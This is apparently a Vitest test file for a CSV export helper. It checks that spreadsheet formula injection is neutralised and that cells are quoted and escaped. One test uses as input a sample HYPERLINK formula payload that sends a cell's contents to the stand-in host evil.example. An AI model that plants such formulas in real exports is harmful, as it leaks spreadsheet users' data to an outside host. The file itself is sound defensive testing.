import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvValue } from './csv';

describe('CSV cells', () => {
	it('turns a formula payload into text a spreadsheet will not run', () => {
		expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
	});

	it('prefixes every formula opener: = + - @ tab and carriage return', () => {
		expect(['=1+1', '+44 121', '-2', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(['"\'=1+1"', '"\'+44 121"', '"\'-2"', '"\'@SUM(A1)"', '"\'\tx"', '"\'\rx"']);
	});

	it('quotes every cell, doubles quotes, and keeps commas and newlines inside the cell', () => {
		expect(csvCell('a,b')).toBe('"a,b"');
		expect(csvCell('say "hi"')).toBe('"say ""hi"""');
		expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
		expect(csvCell(42)).toBe('"42"');
		expect(csvCell(null)).toBe('""');
	});

	it('leaves a formula character that is not first alone', () => {
		expect(csvCell('a=b')).toBe('"a=b"');
	});

	it('ends each row with CRLF', () => {
		expect(csvRow(['a', 'b,c', null])).toBe('"a","b,c",""\r\n');
	});
});

describe('CSV values', () => {
	it('writes numbers bare so a spreadsheet keeps them numbers, negatives and decimals included', () => {
		expect([12, 0, -3, 2.5].map(csvValue)).toEqual(['12', '0', '-3', '2.5']);
	});

	it('writes text as a neutralised, quoted cell', () => {
		expect(csvValue('-3')).toBe('"\'-3"');
		expect(csvValue('<5')).toBe('"<5"');
	});

	it('refuses a number a spreadsheet could not read', () => {
		expect(() => csvValue(Number.NaN)).toThrow();
		expect(() => csvValue(Infinity)).toThrow();
	});
});
